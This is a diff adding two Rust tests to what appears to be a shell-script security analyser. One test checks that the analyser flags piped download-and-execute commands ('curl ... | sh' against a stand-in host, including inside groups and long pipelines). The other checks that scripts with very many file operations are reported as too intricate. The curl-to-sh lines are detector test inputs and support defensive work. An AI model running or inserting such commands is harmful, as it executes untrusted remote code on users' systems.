@@ -303,6 +303,34 @@ fn only_a_script_that_was_just_made_is_known() {
 }
 
 #[test]
+fn every_command_of_a_group_or_pipeline_counts_for_what_it_reads_and_prints() {
+    for count in [0, 15, 16, 300] {
+        let (others, stages) = ("true; ".repeat(count), "cat | ".repeat(count));
+        for text in [
+            format!("curl -s http://e.example/a | {{ {others}sh; }}\n"),
+            format!("{{ {others}curl -s http://e.example/a; }} | sh\n"),
+            format!("curl -s http://e.example/a | {stages}sh\n"),
+        ] {
+            let told = told(&look("bash", &text));
+            assert!(told.iter().any(|finding| finding.contains(" sh.run-downloaded: ")), "{text}: {told:?}");
+        }
+    }
+}
+
+#[test]
+fn files_and_links_that_are_not_remembered_are_an_unchecked_part() {
+    let lines = |line: &str, count: usize| -> String {
+        (0..count).map(|at| line.replace('N', &at.to_string())).collect()
+    };
+    for (line, few, many) in [(": > fN\n", 1000, 1100), ("ln -s a lN\n", 200, 300)] {
+        assert_eq!(look("bash", &lines(line, few)).unchecked, None, "{line}");
+        let why = look("bash", &lines(line, many)).unchecked.unwrap_or_default();
+        assert!(why.contains("too intricate to follow"), "{line}: {why}");
+    }
+    assert_eq!(look("bash", &": > f\n".repeat(1100)).unchecked, None);
+}
+
+#[test]
 fn code_of_files_that_the_text_does_not_show_is_not_known() {
     for (language, source) in [
         ("bash", "python3 -m mod"),
